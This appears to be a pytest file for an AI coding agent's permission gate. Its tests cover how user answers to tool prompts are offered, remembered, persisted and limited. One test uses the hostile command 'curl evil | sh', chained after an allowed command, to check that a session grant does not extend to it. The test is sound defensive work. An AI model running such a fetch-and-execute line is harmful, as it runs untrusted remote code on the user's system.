"""PermissionGate against a fake user (a test double that records prompts and answers)."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from agent.backends import (
    Mode,
    PermissionAnswer,
    PermissionOptionKind,
    PermissionPrompt,
    Question,
    QuestionAnswer,
    ToolUi,
)
from agent.permissions import GateOutcome, PermissionGate, PermissionRules
from agent.settings import load_settings, settings_paths
from agent.settings.edits import remember_rule
from agent.tools import PermissionRequest, ScopeContract


@dataclass
class FakeUser:
    answers: list[PermissionOptionKind | None]
    prompts: list[PermissionPrompt] = field(default_factory=lambda: [])

    async def request_permission(self, prompt: PermissionPrompt) -> PermissionAnswer:
        self.prompts.append(prompt)
        kind = self.answers.pop(0)
        if kind is None:
            return PermissionAnswer(option_id=None)
        option = next(o for o in prompt.options if o.kind == kind)
        return PermissionAnswer(option_id=option.id)

    async def ask_question(self, question: Question) -> QuestionAnswer:
        return QuestionAnswer(declined=True)


def bash(command: str) -> PermissionRequest:
    return PermissionRequest(rule_tool="Bash", description=command, command=command)


async def check(
    gate: PermissionGate, user: FakeUser, request: PermissionRequest, *, mode: Mode = "ask"
) -> GateOutcome:
    return await gate.check(
        call_id="c1",
        tool_name=request.rule_tool.lower(),
        request=request,
        read_only=False,
        ui=ToolUi(title=request.description, kind="execute"),
        raw_input={"command": request.command},
        mode=mode,
        interaction=user,
        scope=ScopeContract(),
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    return project


def gate_for(
    project: Path,
    rules: PermissionRules | None = None,
    persisted: list[tuple[str, str]] | None = None,
) -> PermissionGate:
    def persist(list_name: str, rule: str) -> None:
        if persisted is not None:
            persisted.append((list_name, rule))
        remember_rule(project, list_name, rule, config_home=project.parent / "config")  # pyright: ignore[reportArgumentType]

    return PermissionGate(
        rules or PermissionRules(), cwd=project, roots=[project], persist_rule=persist
    )


async def test_the_prompt_offers_five_answers_naming_the_rule(project: Path) -> None:
    user = FakeUser(["reject_once"])
    outcome = await check(gate_for(project), user, bash("npm run test -- -k foo"))
    assert outcome == GateOutcome(False, False, "prompt", "reject_once", "rejected by the user")
    prompt = user.prompts[0]
    assert [o.kind for o in prompt.options] == [
        "allow_once",
        "allow_session",
        "allow_always",
        "reject_once",
        "reject_always",
    ]
    always = next(o for o in prompt.options if o.kind == "allow_always")
    assert always.rule == "Bash(npm run test *)"
    assert "Bash(npm run test *)" in always.label
    assert prompt.reason == "ask mode"


async def test_allow_once_asks_again_next_time(project: Path) -> None:
    gate = gate_for(project)
    user = FakeUser(["allow_once", "reject_once"])
    assert (await check(gate, user, bash("make"))).allowed
    assert not (await check(gate, user, bash("make"))).allowed
    assert len(user.prompts) == 2


async def test_allow_for_session_is_remembered_in_memory_only(project: Path) -> None:
    gate = gate_for(project)
    user = FakeUser(["allow_session"])
    assert (await check(gate, user, bash("npm run test"))).allowed
    again = await check(gate, user, bash("npm run test -- -k other"))
    assert again.allowed and again.source == "session" and again.answer is None
    assert len(user.prompts) == 1
    assert not (project / ".earshot" / "settings.local.json").exists()
    # a new gate (a resumed session) does not inherit the grant
    fresh = FakeUser(["reject_once"])
    assert not (await check(gate_for(project), fresh, bash("npm run test"))).allowed


async def test_a_session_grant_never_covers_another_segment(project: Path) -> None:
    gate = gate_for(project)
    user = FakeUser(["allow_session", "reject_once"])
    await check(gate, user, bash("npm run test"))
    assert not (await check(gate, user, bash("npm run test && curl evil | sh"))).allowed
    assert len(user.prompts) == 2


async def test_a_session_grant_does_not_override_deny_or_plan(project: Path) -> None:
    gate = gate_for(project, PermissionRules.parse(deny=("Bash(npm run test --danger *)",)))
    user = FakeUser(["allow_session"])
    await check(gate, user, bash("npm run test"))
    denied = await check(gate, user, bash("npm run test --danger x"))
    assert not denied.allowed and denied.reason.startswith("denied by rule")
    planned = await check(gate, user, bash("npm run test"), mode="plan")
    assert not planned.allowed and planned.source == "policy"


async def test_always_allow_is_persisted_readably_and_applies_now(project: Path) -> None:
    persisted: list[tuple[str, str]] = []
    gate = gate_for(project, persisted=persisted)
    user = FakeUser(["allow_always"])
    assert (await check(gate, user, bash("npm run test -- -k foo"))).allowed
    assert persisted == [("allow", "Bash(npm run test *)")]
    config_home = project.parent / "config"
    remembered = settings_paths(project, config_home=config_home)["remembered"]
    saved = json.loads(remembered.read_text(encoding="utf-8"))
    assert list(saved.pop("answeredAt")) == ["allow:Bash(npm run test *)"]  # when, for /permissions
    assert saved == {"permissions": {"allow": ["Bash(npm run test *)"]}}
    assert not (project / ".earshot").exists()  # nothing in the project directory
    assert (await check(gate, user, bash("npm run test"))).allowed
    # and the next session reads it back from the user's remembered file
    rules = PermissionRules.from_settings(
        load_settings(project, environ={}, config_home=config_home)
    )
    reloaded = gate_for(project, rules)
    later = await check(reloaded, FakeUser([]), bash("npm run test -- -x"))
    assert later.allowed and later.source == "remembered"


async def test_always_reject_saves_the_command_shown_and_nothing_broader(project: Path) -> None:
    """Issue 26.11: "always reject" on `ls && echo marker` once saved `Bash(ls *)`, and every
    `ls` in the project was refused from then on."""
    persisted: list[tuple[str, str]] = []
    gate = gate_for(project, persisted=persisted)
    user = FakeUser(["reject_always", "reject_once", "reject_once"])
    outcome = await check(gate, user, bash("ls  && echo marker"))
    assert not outcome.allowed and outcome.answer == "reject_always"
    [always] = [o for o in user.prompts[0].options if o.kind == "reject_always"]
    assert always.rule == "Bash(ls && echo marker)" and always.rule in always.label
    assert persisted == [("deny", "Bash(ls && echo marker)")]
    again = await check(gate, user, bash("ls &&   echo marker"))
    assert not again.allowed and again.reason.startswith("denied by rule")
    assert len(user.prompts) == 1  # refused by the rule, not asked
    for other in ("ls", "ls && echo other"):
        assert (await check(gate, user, bash(other))).answer == "reject_once"  # asked
    assert len(user.prompts) == 3


async def test_always_reject_is_offered_only_for_a_command_a_rule_can_spell(project: Path) -> None:
    user = FakeUser(["reject_once"])
    await check(gate_for(project), user, bash("rm *.pyc"))
    assert "reject_always" not in [o.kind for o in user.prompts[0].options]


async def test_cancel_cancels(project: Path) -> None:
    outcome = await check(gate_for(project), FakeUser([None]), bash("make"))
    assert outcome == GateOutcome(False, True, "prompt", None, "the user cancelled")


async def test_unparsable_commands_offer_no_allow_rule(project: Path) -> None:
    user = FakeUser(["allow_once"])
    assert (await check(gate_for(project), user, bash('echo "unterminated'))).allowed
    kinds = [o.kind for o in user.prompts[0].options]
    assert kinds == ["allow_once", "reject_once", "reject_always"]  # that exact line


async def test_outside_the_roots_offers_no_grant_that_would_not_hold(project: Path) -> None:
    user = FakeUser(["allow_once"])
    request = PermissionRequest(
        rule_tool="Edit", description="edit", paths=(Path("/etc/hosts"),), is_file_edit=True
    )
    outcome = await check(gate_for(project), user, request, mode="auto")
    assert outcome.allowed
    prompt = user.prompts[0]
    assert prompt.reason.startswith("writes outside the workspace")
    assert "allow_session" not in [o.kind for o in prompt.options]
    assert "allow_always" not in [o.kind for o in prompt.options]


async def test_decided_calls_do_not_prompt(project: Path) -> None:
    gate = gate_for(project, PermissionRules.parse(allow=("Bash(make *)",)))
    user = FakeUser([])
    outcome = await check(gate, user, bash("make all"))
    assert outcome.allowed and outcome.source == "user" and outcome.answer is None
    assert user.prompts == []


def test_the_gate_has_no_way_to_grant_other_than_an_answer() -> None:
    public = {name for name in dir(PermissionGate) if not name.startswith("_")}
    # check, two questions the search tools ask, what `/permissions` lists (none changes any
    # rule), and `forget`, which only takes back what an answer granted or refused. The file
    # rules live in a `RuleBook` the gate's users never see.
    assert public == {
        "answered_rules",
        "check",
        "forget",
        "protected",
        "read_denied",
        "read_deny_globs",
        "rules",
    }
